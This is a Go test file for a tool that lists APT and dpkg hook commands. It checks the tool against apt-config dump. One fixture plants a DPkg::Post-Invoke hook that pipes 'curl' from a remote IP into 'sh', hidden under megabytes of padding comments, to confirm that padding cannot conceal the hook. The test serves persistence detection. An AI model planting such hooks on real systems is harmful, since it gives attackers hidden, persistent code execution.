package apthooks

import (
	"context"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/pkgpersist/pkgpersist/extension/aptconf"
	"github.com/pkgpersist/pkgpersist/extension/table"
	"github.com/pkgpersist/pkgpersist/test/aptoracle"
)

const rootsDir = "../../../test/roots"

func fixtureRoots(t *testing.T) []string {
	t.Helper()
	ents, err := os.ReadDir(rootsDir)
	if err != nil {
		t.Fatal(err)
	}
	var roots []string
	for _, e := range ents {
		// the roots with an APT configuration; others serve other tables
		if _, err := os.Stat(filepath.Join(rootsDir, e.Name(), "etc/apt")); e.IsDir() && err == nil {
			roots = append(roots, filepath.Join(rootsDir, e.Name()))
		}
	}
	if len(roots) < 3 {
		t.Fatalf("expected fixture roots under %s, found %v", rootsDir, roots)
	}
	return roots
}

// expectedFromDump is what apt runs for each hook key, computed from the
// tree apt-config printed: a list key's non-empty direct children in order;
// the command of each dpkg --pre/--post-invoke option; a scalar's value;
// apt's FindVector for a vector. Values that are apt's built-in defaults
// (present unchanged on an empty root) are left out: the table reports
// what configuration files add.
func expectedFromDump(items, defaults []aptoracle.Item) map[string][]string {
	conf := aptconf.New()
	for _, it := range items {
		conf.Set(it.Tag, it.Value, aptconf.Origin{Path: "dump"})
	}
	isDefault := map[string]bool{}
	for _, it := range defaults {
		isDefault[it.Tag+"\x00"+it.Value] = true
	}
	want := map[string][]string{}
	add := func(hook, tag, v string) {
		if v != "" && !isDefault[tag+"\x00"+v] {
			want[hook] = append(want[hook], v)
		}
	}
	conf.Walk(func(it *aptconf.Item, tag string) {
		m, ok := classify(it)
		if !ok || m.depth != 0 {
			return
		}
		switch m.kind {
		case list:
			for _, c := range it.Children {
				add(m.hook, tag+"::"+c.Tag, c.Value)
			}
		case dpkgOptions:
			next := false
			for _, c := range it.Children {
				if c.Value == "" {
					continue
				}
				if next {
					add(m.hook, "", c.Value)
				}
				next = c.Value == "--pre-invoke" || c.Value == "--post-invoke"
				for _, p := range []string{"--pre-invoke=", "--post-invoke="} {
					if cmd, ok := strings.CutPrefix(c.Value, p); ok {
						add(m.hook, "", cmd)
					}
				}
			}
		case scalar:
			if m.shadowedBy != "" && it.Parent != nil {
				for _, s := range it.Parent.Children {
					if strings.EqualFold(s.Tag, m.shadowedBy) && s.Value != "" {
						return
					}
				}
			}
			add(m.hook, tag, it.Value)
		case vector:
			if it.Value != "" {
				add(m.hook, tag, it.Value)
				return
			}
			for _, c := range it.Children {
				add(m.hook, tag+"::"+c.Tag, c.Value)
			}
		}
	})
	return want
}

// activeByHook is the table's answer in the same shape.
func activeByHook(t *testing.T, rows []table.Row) map[string][]string {
	t.Helper()
	type pc struct {
		pos int
		cmd string
	}
	by := map[string][]pc{}
	for _, r := range rows {
		if r["active"] != "1" {
			continue
		}
		p, err := strconv.Atoi(r["position"])
		if err != nil || p < 0 {
			t.Fatalf("active row with position %q: %v", r["position"], r)
		}
		by[r["hook"]] = append(by[r["hook"]], pc{p, r["command"]})
	}
	out := map[string][]string{}
	for h, l := range by {
		sort.Slice(l, func(i, j int) bool { return l[i].pos < l[j].pos })
		for i, x := range l {
			if i > 0 && l[i-1].pos == x.pos {
				t.Fatalf("%s: two active rows at position %d", h, x.pos)
			}
			out[h] = append(out[h], x.cmd)
		}
	}
	return out
}

// TestOracle: on every fixture root, the active rows of each hook, ordered
// by position, are what apt-config dump says apt runs.
func TestOracle(t *testing.T) {
	defaults, err := aptoracle.Dump(t, t.TempDir())
	if err != nil {
		t.Fatalf("apt-config on an empty root: %v", err)
	}
	for _, root := range fixtureRoots(t) {
		for _, ac := range aptConfigs(t, root) {
			t.Run(filepath.Base(root)+ac, func(t *testing.T) {
				oracleRoot(t, root, ac, defaults)
			})
		}
	}
}

// aptConfigs are the APT_CONFIG settings a root is checked with: none, and
// the file its sidecar <root>.apt_config names.
func aptConfigs(t *testing.T, root string) []string {
	out := []string{""}
	if data, err := os.ReadFile(root + ".apt_config"); err == nil {
		out = append(out, strings.TrimSpace(string(data)))
	}
	return out
}

func oracleRoot(t *testing.T, root, aptConfig string, defaults []aptoracle.Item) {
	rows, err := Rows(context.Background(), root, aptConfig)
	if err != nil {
		t.Fatal(err)
	}
	got := activeByHook(t, rows)
	items, aptErr := aptoracle.DumpWith(t, root, aptConfig)
	if aptErr != nil {
		// apt refuses to run: nothing is active, and the error is a row.
		if len(got) != 0 {
			t.Fatalf("apt refuses this configuration (%v) but the table has active rows: %v", aptErr, got)
		}
		found := false
		for _, r := range rows {
			found = found || (r["hook"] == "" && strings.HasPrefix(r["reason"], "apt runs nothing: "))
		}
		if !found {
			t.Fatalf("no row carries apt's error %v", aptErr)
		}
		return
	}
	want := expectedFromDump(items, defaults)
	if len(want) == 0 {
		t.Fatal("fixture defines no hook apt runs")
	}
	for h, w := range want {
		if strings.Join(got[h], "\n") != strings.Join(w, "\n") {
			t.Errorf("%s:\napt runs: %q\ntable:    %q", h, w, got[h])
		}
	}
	for h, g := range got {
		if _, ok := want[h]; !ok {
			t.Errorf("%s: table has active %q, apt runs nothing", h, g)
		}
	}
}

// TestPaddedAgainstApt: padding cannot hide a hook. A hook before and one
// after 1.1 MB of comment lines, and one after a single 8 MiB comment line,
// are what apt-config dump says apt runs.
func TestPaddedAgainstApt(t *testing.T) {
	defaults, err := aptoracle.Dump(t, t.TempDir())
	if err != nil {
		t.Fatalf("apt-config on an empty root: %v", err)
	}
	root := t.TempDir()
	parts := filepath.Join(root, "etc/apt/apt.conf.d")
	if err := os.MkdirAll(parts, 0o755); err != nil {
		t.Fatal(err)
	}
	var padded strings.Builder
	padded.WriteString("DPkg::Post-Invoke { \"curl -fsSL http://198.51.100.7/s | sh\"; };\n")
	for padded.Len() < 1100<<10 {
		padded.WriteString("// nothing to see here, just a long list of notes about mirrors and proxies\n")
	}
	padded.WriteString("APT::Update::Pre-Invoke { \"/usr/local/bin/after-padding\"; };\n")
	longLine := "# " + strings.Repeat("x", 8<<20) + "\nAPT::Update::Post-Invoke-Success { \"/usr/local/bin/after-long-line\"; };\n"
	for name, data := range map[string]string{"50padded.conf": padded.String(), "60longline.conf": longLine} {
		if err := os.WriteFile(filepath.Join(parts, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	oracleRoot(t, root, "", defaults)
	rows, err := Rows(context.Background(), root, "")
	if err != nil {
		t.Fatal(err)
	}
	got := activeByHook(t, rows)
	for hook, cmd := range map[string]string{
		"DPkg::Post-Invoke":                "curl -fsSL http://198.51.100.7/s | sh",
		"APT::Update::Pre-Invoke":          "/usr/local/bin/after-padding",
		"APT::Update::Post-Invoke-Success": "/usr/local/bin/after-long-line",
	} {
		if strings.Join(got[hook], "\n") != cmd {
			t.Errorf("%s: table runs %q, want %q", hook, got[hook], cmd)
		}
	}
}
